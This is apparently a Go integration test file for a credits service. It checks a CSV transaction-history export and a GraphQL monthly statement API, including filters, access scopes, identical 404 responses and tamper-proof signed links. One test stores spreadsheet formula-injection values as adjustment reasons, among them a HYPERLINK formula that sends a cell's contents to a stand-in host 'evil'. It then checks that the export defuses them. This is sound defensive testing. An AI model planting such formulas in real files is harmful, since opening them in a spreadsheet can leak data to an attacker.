package main

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"creditgate/auth"
	"creditgate/credits"
	"creditgate/gid"
	"creditgate/money"
)

type exportAnswer struct {
	status int
	header http.Header
	body   string
}

// export GETs /exports/history.csv with token ("" for none) and the query.
func (a *testAPI) export(t *testing.T, token string, q url.Values) exportAnswer {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, a.srv.URL+"/exports/history.csv?"+q.Encode(), nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("export: %v", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("export body: %v", err)
	}
	return exportAnswer{resp.StatusCode, resp.Header, string(body)}
}

// refused checks an export refusal: the status, the code, no CSV.
func (x exportAnswer) refused(t *testing.T, status int, code string) {
	t.Helper()
	var out struct {
		Errors []struct {
			Message    string
			Extensions struct{ Code string }
		}
	}
	if x.status != status || json.Unmarshal([]byte(x.body), &out) != nil || len(out.Errors) != 1 || out.Errors[0].Extensions.Code != code {
		t.Fatalf("got %d %s, want %d %s", x.status, x.body, status, code)
	}
	if strings.Contains(x.header.Get("Content-Type"), "csv") {
		t.Fatalf("a refusal served as CSV")
	}
}

// rows parses an export, checking its header row.
func (x exportAnswer) rows(t *testing.T) [][]string {
	t.Helper()
	if x.status != http.StatusOK {
		t.Fatalf("export: %d %s", x.status, x.body)
	}
	if ct, cd := x.header.Get("Content-Type"), x.header.Get("Content-Disposition"); !strings.HasPrefix(ct, "text/csv") || !strings.HasPrefix(cd, "attachment; filename=") {
		t.Fatalf("Content-Type %q, Content-Disposition %q", ct, cd)
	}
	recs, err := csv.NewReader(strings.NewReader(x.body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, x.body)
	}
	want := "date,type,kind,reference,amount,running balance,currency,transaction id,actor,reason"
	if len(recs) == 0 || strings.Join(recs[0], ",") != want {
		t.Fatalf("header %v, want %s", recs, want)
	}
	return recs[1:]
}

// TestHistoryExportCSV: the export holds every transaction once, oldest
// first, its amounts summing to the balance and chaining the running
// balance; text cells that a spreadsheet would run are defused, quotes and
// commas survive; filters narrow it; the scope is history's (another
// client's or agency's account, and an unknown id, are the same 404); no
// token is 401, an API key needs BALANCES_READ.
func TestHistoryExportCSV(t *testing.T) {
	eachDB(t, func(t *testing.T, a *testAPI) {
		t.Cleanup(func() { verifyLedger(t, a) })
		a.fund(a.fx.A1, "100")
		a.spendA1(t, 3)
		a.fund(a.fx.A1, "20.50")
		adjust := func(in bool, amount, reason string) {
			t.Helper()
			if _, err := a.svc.AdjustBalance(sys(), credits.Adjustment{AccountID: a.fx.A1, In: in, Amount: money.Decimal(amount), Reason: reason}); err != nil {
				t.Fatal(err)
			}
		}
		adjust(true, "1.25", `=HYPERLINK("http://evil/?"&A1, "click"), please`)
		adjust(false, "0.75", "@SUM(1+1)")
		adjust(false, "0.50", "-2+3")
		a.spendA1(t, 1)

		all := a.export(t, a.owner(), nil).rows(t)
		if len(all) != 7 {
			t.Fatalf("%d rows, want 7: %v", len(all), all)
		}
		var sum, prev int64
		for i, r := range all {
			amt, err := money.Parse(money.Decimal(strings.TrimPrefix(r[4], "-")), "USD")
			if err != nil {
				t.Fatalf("row %d amount %q: %v", i, r[4], err)
			}
			if strings.HasPrefix(r[4], "-") != (r[1] == "OUT") {
				t.Errorf("row %d: %s with amount %s", i, r[1], r[4])
			}
			if r[1] == "OUT" {
				amt = -amt
			}
			sum += amt
			run, err := money.Parse(money.Decimal(r[5]), "USD")
			if err != nil || run != prev+amt {
				t.Errorf("row %d: running balance %s after %d%+d", i, r[5], prev, amt)
			}
			prev = run
			if r[6] != "USD" || !strings.HasPrefix(r[7], "txn_") {
				t.Errorf("row %d: currency %q, id %q", i, r[6], r[7])
			}
			if _, err := time.Parse(time.RFC3339Nano, r[0]); err != nil {
				t.Errorf("row %d date %q", i, r[0])
			}
		}
		var bal struct{ Balance struct{ Total string } }
		a.gql(a.owner(), `{ balance { total } }`, nil).decode(t, &bal)
		if got := money.Format(sum, "USD"); string(got) != bal.Balance.Total {
			t.Errorf("the export sums to %s, the balance is %s", got, bal.Balance.Total)
		}
		if all[0][2] != "PURCHASE" || all[1][2] != "SERVICE_PURCHASE" || all[6][2] != "SERVICE_PURCHASE" {
			t.Errorf("not oldest first: %v", all)
		}
		for i, want := range map[int]string{
			3: `'=HYPERLINK("http://evil/?"&A1, "click"), please`,
			4: "'@SUM(1+1)",
			5: "'-2+3",
		} {
			if all[i][9] != want {
				t.Errorf("reason of row %d: %q, want %q", i, all[i][9], want)
			}
		}
		if all[4][4] != "-0.75" {
			t.Errorf("an OUT amount is a number: %q", all[4][4])
		}

		// The agency's admin and a read key export A1; filters narrow it.
		forA1 := url.Values{"accountId": {string(a.fx.A1)}}
		if n := len(a.export(t, a.agencyAdmin(), forA1).rows(t)); n != 7 {
			t.Errorf("agency admin: %d rows", n)
		}
		if n := len(a.export(t, keyOf(a, a.fx.AgencyA, auth.ScopeBalancesRead), forA1).rows(t)); n != 7 {
			t.Errorf("API key with BALANCES_READ: %d rows", n)
		}
		adj := a.export(t, a.owner(), url.Values{"kind": {"ADJUSTMENT"}}).rows(t)
		if len(adj) != 3 {
			t.Errorf("kind=ADJUSTMENT: %d rows", len(adj))
		}
		two := a.export(t, a.owner(), url.Values{"kind": {"PURCHASE,SERVICE_PURCHASE"}, "currency": {"USD"}}).rows(t)
		if len(two) != 4 {
			t.Errorf("kind=PURCHASE,SERVICE_PURCHASE: %d rows", len(two))
		}
		from := all[2][0] // the second purchase on
		if n := len(a.export(t, a.owner(), url.Values{"from": {from}}).rows(t)); n != 5 {
			t.Errorf("from %s: %d rows", from, n)
		}
		if n := len(a.export(t, a.owner(), url.Values{"to": {from}}).rows(t)); n != 2 {
			t.Errorf("to %s: %d rows", from, n)
		}
		if n := len(a.export(t, a.owner(), url.Values{"from": {"2000-01-01"}, "to": {"2000-02-01"}}).rows(t)); n != 0 {
			t.Errorf("a window before the account: %d rows", n)
		}

		writeKey, keyB := keyOf(a, a.fx.AgencyA, auth.ScopeUsageWrite), keyOf(a, a.fx.AgencyB, auth.ScopeBalancesRead)
		before := snapshot(t, a)
		// Refusals: before any CSV, in the errors' shape.
		a.export(t, "", nil).refused(t, http.StatusUnauthorized, "UNAUTHENTICATED")
		a.export(t, "not-a-token", nil).refused(t, http.StatusUnauthorized, "UNAUTHENTICATED")
		a.export(t, writeKey, forA1).refused(t, http.StatusForbidden, "FORBIDDEN")
		a.export(t, keyOf(a, a.fx.AgencyA, auth.ScopeBalancesRead), nil).refused(t, http.StatusBadRequest, "BAD_USER_INPUT")
		a.export(t, a.owner(), url.Values{"from": {"2026-03-01"}, "to": {"2026-03-01"}}).refused(t, http.StatusBadRequest, "BAD_USER_INPUT")
		a.export(t, a.owner(), url.Values{"from": {"yesterday"}}).refused(t, http.StatusBadRequest, "BAD_USER_INPUT")
		a.export(t, a.owner(), url.Values{"kind": {"GIFT"}}).refused(t, http.StatusBadRequest, "BAD_USER_INPUT")
		a.export(t, a.owner(), url.Values{"currency": {"XXXX"}}).refused(t, http.StatusBadRequest, "BAD_USER_INPUT")
		var notFound []string
		for name, c := range map[string]struct {
			token string
			acc   gid.ID
		}{
			"a client, another client's account":        {a.owner(), a.fx.A2},
			"a client, another agency's account":        {a.client(), a.fx.B1},
			"an agency admin, another agency's account": {a.agencyAdmin(), a.fx.B1},
			"a key of agency B, A1":                     {keyB, a.fx.A1},
			"an account that does not exist":            {a.agencyAdmin(), "acc_doesnotexist"},
		} {
			x := a.export(t, c.token, url.Values{"accountId": {string(c.acc)}})
			t.Run(name, func(t *testing.T) { x.refused(t, http.StatusNotFound, "NOT_FOUND") })
			notFound = append(notFound, x.body)
		}
		for _, b := range notFound[1:] {
			if b != notFound[0] {
				t.Errorf("404 bodies differ, telling accounts apart: %q and %q", b, notFound[0])
			}
		}
		wantUnchanged(t, a, before, "export refusals")
	})
}

const statementQuery = `query($a: ID, $m: String!){ statement(accountId: $a, month: $m) {
	account { id } currency month from to openingBalance totalIn totalOut closingBalance transactionCount documentUrl } }`

type statementAnswer struct {
	Statement struct {
		Account                           struct{ ID string }
		Currency, Month                   string
		From, To                          time.Time
		OpeningBalance, TotalIn, TotalOut string
		ClosingBalance                    string
		TransactionCount                  int
		DocumentURL                       string `json:"documentUrl"`
	}
}

// TestStatementAPI: this month's statement through GraphQL matches the
// balance; its printable page works without a token by its signed link,
// and a tampered link or another account's is 404; scope, month and
// history's filters refuse as the contract says; runway is null before
// spending, then set.
func TestStatementAPI(t *testing.T) {
	eachDB(t, func(t *testing.T, a *testAPI) {
		t.Cleanup(func() { verifyLedger(t, a) })
		month := time.Now().UTC().Format("2006-01")
		var rw struct {
			Balance struct{ Runway *struct{ DaysLeft int } }
		}
		a.gql(a.owner(), `{ balance { runway { daysLeft averageDailySpend runsOutAt } } }`, nil).decode(t, &rw)
		if rw.Balance.Runway != nil {
			t.Errorf("runway before any spending: %+v", rw.Balance.Runway)
		}
		a.fund(a.fx.A1, "100")
		a.spendA1(t, 3)
		var st statementAnswer
		a.gql(a.owner(), statementQuery, map[string]any{"m": month}).decode(t, &st)
		s := st.Statement
		if s.Account.ID != string(a.fx.A1) || s.Currency != "USD" || s.Month != month || s.OpeningBalance != "0.00" ||
			s.TotalIn != "100.00" || s.TotalOut != "3.00" || s.ClosingBalance != "97.00" || s.TransactionCount != 2 {
			t.Errorf("statement %+v", s)
		}
		code, page := a.getDocument(t, s.DocumentURL)
		if code != http.StatusOK || !strings.Contains(page, "97.00 USD") || !strings.Contains(page, "SERVICE_PURCHASE") || !strings.Contains(page, "@media print") {
			t.Errorf("statement page: %d\n%s", code, page)
		}
		if code, _ := a.getDocument(t, strings.Replace(s.DocumentURL, "sig=", "sig=x", 1)); code != http.StatusNotFound {
			t.Errorf("a tampered link: %d", code)
		}
		if code, _ := a.getDocument(t, strings.Replace(s.DocumentURL, string(a.fx.A1), string(a.fx.A2), 1)); code != http.StatusNotFound {
			t.Errorf("the link moved to another account: %d", code)
		}
		if code, _ := a.getDocument(t, strings.Replace(s.DocumentURL, "month="+month, "month=2020-01", 1)); code != http.StatusNotFound {
			t.Errorf("the link moved to another month: %d", code)
		}
		a.gql(a.owner(), `{ balance { runway { daysLeft averageDailySpend runsOutAt } } }`, nil).decode(t, &rw)
		if rw.Balance.Runway == nil || rw.Balance.Runway.DaysLeft != 970 { // 97.00 / (3.00 / 30)
			t.Errorf("runway after spending 3.00: %+v", rw.Balance.Runway)
		}

		before := snapshot(t, a)
		next := time.Now().UTC().AddDate(0, 1, 0).Format("2006-01")
		wantRefused(t, a.gql(a.owner(), statementQuery, map[string]any{"m": next}), "BAD_USER_INPUT", "statement")
		wantRefused(t, a.gql(a.owner(), statementQuery, map[string]any{"m": "2026/01"}), "BAD_USER_INPUT", "statement")
		wantRefused(t, a.gql(a.owner(), statementQuery, map[string]any{"m": month, "a": a.fx.A2}), "NOT_FOUND", "statement")
		wantRefused(t, a.gql(a.agencyAdmin(), statementQuery, map[string]any{"m": month, "a": a.fx.B1}), "NOT_FOUND", "statement")
		const hq = `query($f: Time, $t: Time, $k: [TransactionKind!]){ history(from: $f, to: $t, kind: $k) { totalCount } }`
		wantRefused(t, a.gql(a.owner(), hq, map[string]any{"f": "2026-03-01T00:00:00Z", "t": "2026-02-01T00:00:00Z"}), "BAD_USER_INPUT", "history")
		if r := a.gql(a.owner(), hq, map[string]any{"k": []string{"GIFT"}}); r.code() != "BAD_USER_INPUT" && r.code() != "GRAPHQL_VALIDATION_FAILED" {
			t.Errorf("an unknown kind: %+v", r.Errors)
		}
		wantUnchanged(t, a, before, "statement refusals")
		var h struct{ History struct{ TotalCount int } }
		a.gql(a.owner(), hq, map[string]any{"k": []string{"SERVICE_PURCHASE"}, "f": s.From}).decode(t, &h)
		if h.History.TotalCount != 1 {
			t.Errorf("history(kind: SERVICE_PURCHASE) totalCount %d", h.History.TotalCount)
		}
	})
}
